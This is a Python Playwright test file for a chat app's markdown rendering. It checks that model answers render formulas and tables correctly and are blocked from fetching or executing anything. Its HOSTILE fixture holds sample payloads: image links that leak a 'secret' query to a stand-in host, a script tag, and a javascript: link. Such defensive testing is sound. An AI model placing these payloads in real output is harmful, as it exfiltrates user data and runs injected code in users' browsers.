"""What a model writes, in a real page: drawn right, fetching nothing, commanding nothing."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from typing import TYPE_CHECKING

import pytest
from playwright.sync_api import expect

from tests.browser.conftest import RunningApp, running_app
from tests.browser.test_chat import beginning, box, say
from tests.support.upstream import Script, ScriptedUpstream

if TYPE_CHECKING:
    from playwright.sync_api import BrowserContext, Page

HOSTILE = r"""Look: ![a chart](http://pictures.invalid/steal.png?q=secret) and
<img src="http://pictures.invalid/html.png"> and ![][r].

[r]: http://pictures.invalid/reference.png

Words :red[as written], :material/home: and :smile: too. <script>window.stolen = 1</script>

[click](javascript:window.stolen=1)
"""
LEARNED = r"""## Roots

The solutions of \( ax^2 + bx + c = 0 \) are

\[ x = \frac{-b \pm \sqrt{b^2 - 4ac}}{2a} \]

A book costs $12 and a pen $3.

| Database | Setup |
|---|---|
| SQLite | a file |

```python
print("$x$ :red[code]")
```
"""


@pytest.fixture(scope="module")
def upstream() -> Iterator[ScriptedUpstream]:
    with ScriptedUpstream(Script(text=("Fine.",))) as server:
        server.only_streams = True
        yield server


@pytest.fixture(scope="module")
def talking(upstream: ScriptedUpstream, tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunningApp]:
    home = tmp_path_factory.mktemp("markdown") / "home"
    with running_app(home, OPENAI_BASE_URL=upstream.base_url, OPENAI_API_KEY="sk-test") as app:
        yield app


@pytest.fixture
def chat(talking: RunningApp, new_context: Callable[..., BrowserContext]) -> Page:
    page = new_context(base_url=talking.url).new_page()
    page.set_default_timeout(20_000)
    page.goto("/chat")
    expect(box(page)).to_be_visible()
    return page


def in_pieces(text: str) -> tuple[str, ...]:
    return tuple(text[i : i + 7] for i in range(0, len(text), 7))


def test_answer_fetches_nothing_and_commands_nothing(
    chat: Page, talking: RunningApp, upstream: ScriptedUpstream
) -> None:
    asked: list[str] = []
    chat.on("request", lambda r: asked.append(r.url) if r.url.startswith("http") else None)
    upstream.play(Script(text=in_pieces(HOSTILE)))
    say(chat, "Tell me")
    answer = chat.get_by_test_id("stChatMessage").last
    expect(answer.get_by_role("button", name="More")).to_be_visible()
    expect(answer.get_by_text("<script>")).to_be_visible()
    words = answer.inner_text().replace("\u2060", "")
    assert all(w in words for w in (":red[as written]", ":smile:", ":material/home:", "<script>"))
    chat.get_by_role("main").get_by_text("On the wire").first.click()
    expect(chat.get_by_text("1 message, no history")).to_be_visible()
    assert [url for url in asked if not url.startswith(talking.url)] == []
    assert answer.locator("img").count() == 0
    assert chat.locator("a[href^='javascript']").count() == 0
    assert chat.evaluate("window.stolen") is None


def test_formulas_tables_code_and_prices_are_drawn(chat: Page, upstream: ScriptedUpstream) -> None:
    upstream.play(Script(text=in_pieces(LEARNED)))
    say(chat, "Roots, please")
    answer = chat.get_by_test_id("stChatMessage").last
    expect(answer.get_by_role("button", name="More")).to_be_visible()
    expect(answer.locator(".katex")).to_have_count(2)
    expect(answer.locator(".katex-display")).to_have_count(1)
    expect(answer.locator(".katex-error")).to_have_count(0)
    expect(answer.locator("table")).to_have_count(1)
    expect(answer.get_by_text("A book costs $12 and a pen $3.")).to_be_visible()
    expect(answer.get_by_text('print("$x$ :red[code]")')).to_be_visible()


def test_message_that_is_a_command_is_shown_as_typed_everywhere(chat: Page) -> None:
    typed = "# :red[Look] ![x](http://pictures.invalid/p.png) [1] `a` $5 $6"
    asked: list[str] = []
    chat.on("request", lambda r: asked.append(r.url))
    say(chat, typed)
    expect(chat.get_by_test_id("stChatMessage").last.get_by_role("button", name="More")).to_be_visible()
    chat.get_by_role("main").get_by_text("On the wire").first.click()
    shown = chat.get_by_text("Look] ![x](http").last
    expect(shown).to_be_visible()
    assert typed in shown.inner_text().replace("\u2060", "")
    assert not [url for url in asked if "pictures.invalid" in url]


def test_keyboard_is_enough_to_ask_and_to_stop(chat: Page, upstream: ScriptedUpstream) -> None:
    upstream.client_left.clear()
    upstream.play(Script(text=("The ", "answer ", "is ", "long."), hold_after=3))
    box(chat).focus()
    chat.keyboard.type("What is the answer?")
    chat.keyboard.press("Enter")
    expect(beginning(chat)).to_be_visible()
    stop = chat.get_by_test_id("stChatInputStopButton")
    for _ in range(40):
        if stop.evaluate(
            "button => button === document.activeElement || button.contains(document.activeElement)"
        ):
            break
        chat.keyboard.press("Tab")
    expect(stop).to_be_focused()
    chat.keyboard.press("Enter")
    assert upstream.client_left.wait(5)
    expect(chat.get_by_text("Stopped by you")).to_be_visible()
    upstream.release()
